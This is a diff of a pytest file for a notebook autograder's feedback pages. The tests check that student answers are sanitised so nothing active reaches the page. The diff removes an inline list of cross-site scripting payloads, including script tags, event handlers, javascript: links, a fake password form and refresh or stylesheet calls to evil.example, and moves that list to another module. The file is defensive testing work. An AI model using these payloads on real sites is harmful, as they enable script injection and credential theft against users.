@@ -1,50 +1,15 @@
 """A feedback page tells what came of each item, and shows neither the hidden tests nor anything that acts."""
 
 import json
-from html.parser import HTMLParser
 
 import pytest
-from marked import hand_in, make_course
+from marked import HOSTILE, Tags, hand_in, make_course
 
 from nbjudge.course import CourseError, folder
+from nbjudge.handover import harmless
 from nbjudge.handover.feedback import write_feedback
-from nbjudge.handover.feedback_page import LINK, LONGEST, PICTURE, FeedbackExporter
 
 RIGHT = {"test_double": (2.0, "ok", "")}
-HOSTILE = [
-    "<script>alert(1)</script>",
-    "<ScRiPt src=//evil.example/x.js></sCrIpT >",
-    "<img src=x onerror=alert(1)>",
-    '<svg onload="alert(1)"><script>alert(2)</script></svg>',
-    "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](&#106;avascript:alert(1)) [d](java\tscript:alert(1))",
-    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-    '<a href=" &#1; javascript:alert(1)">x</a>',
-    "![p](data:text/html;base64,PHNjcmlwdD4=)",
-    '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data=x></object><embed src=x>',
-    '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
-    '<div style="background:url(javascript:alert(1));position:fixed">x</div>',
-    '<style>body { background: url("https://evil.example") }</style><link rel=stylesheet href=//evil.example>',
-    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href=//evil.example>",
-    "</div></div></body></html><body onload=alert(1)>",
-    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
-    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
-    '<details ontoggle=alert(1) open>x</details>',
-]  # fmt: skip
-
-
-class Tags(HTMLParser):
-    """All tags of a page with their attributes, and its text."""
-
-    def __init__(self, page):
-        super().__init__()
-        self.tags, self.text = [], ""
-        self.feed(page)
-
-    def handle_starttag(self, tag, attributes):
-        self.tags.append((tag, dict(attributes)))
-
-    def handle_data(self, data):
-        self.text += data
 
 
 @pytest.fixture
@@ -63,7 +28,7 @@ def page_of(course, student, notebook="toy", **options):
     return (folder(course, "feedback", student, "toy") / f"{notebook}.html").read_text()
 
 
-def harmless(page):
+def acts_not(page):
     """Has the page no script but the template's own, no handler, no frame or form, no link that acts?"""
     tags = Tags(page).tags
     scripts = [about for tag, about in tags if tag == "script"]
@@ -148,7 +113,7 @@ def test_nothing_acts_in_an_answer(shared, text):
     outputs.append({"output_type": "error", "ename": text, "evalue": text, "traceback": [text]})
     comment = {"essay": (None, "manual", text), "test_double": (0.0, "wrong", text)}
     hand_in(shared, "kim", comment, code=f'"""{text}"""', essay=text, outputs=outputs, more=[text])
-    harmless(page_of(shared, "kim"))
+    acts_not(page_of(shared, "kim"))
 
 
 def test_harmless_markup_stays(shared):
@@ -166,30 +131,15 @@ def test_harmless_markup_stays(shared):
     assert '<img alt="A picture without a description" src="data:image/png;base64,iVBORw0KGgo="' in page
 
 
-@pytest.mark.parametrize(
-    "link", ["https://a.example/b", "HTTP://a.example", "mailto:a@b.example", "#part", "data/b.csv"]
-)
-def test_honest_links_stay(link):
-    assert LINK.fullmatch(link)
-
-
-@pytest.mark.parametrize(
-    "link", ["javascript:a", " javascript:a", "java\nscript:a", "&#106;avascript:a", "data:,a", "x:y"]
-)
-def test_other_links_go(link):
-    assert not LINK.fullmatch(link)
-    assert not PICTURE.fullmatch(link)
-
-
 def test_a_page_that_would_take_minutes_is_cut_short(course, monkeypatch):
     """bleach takes time with the square of the depth; what it is given is bounded, all of a page together."""
     seen = []
-    clean = FeedbackExporter.clean
-    monkeypatch.setattr(FeedbackExporter, "clean", lambda self, text: seen.append(len(text)) or clean(self, text))
+    clean = harmless.clean
+    monkeypatch.setattr(harmless, "clean", lambda text, locked: seen.append(len(text)) or clean(text, locked))
     hand_in(course, "kim", RIGHT, essay="word " * 100_000, more=["- item\n" * 100_000] * 30)
     assert "too long to be shown" in page_of(course, "kim")
     assert sum(seen) < 2_000_000
-    assert LONGEST < 50_000
+    assert harmless.LONGEST < 50_000
 
 
 def test_an_unreadable_notebook_gets_its_reason_and_what_to_do(course):
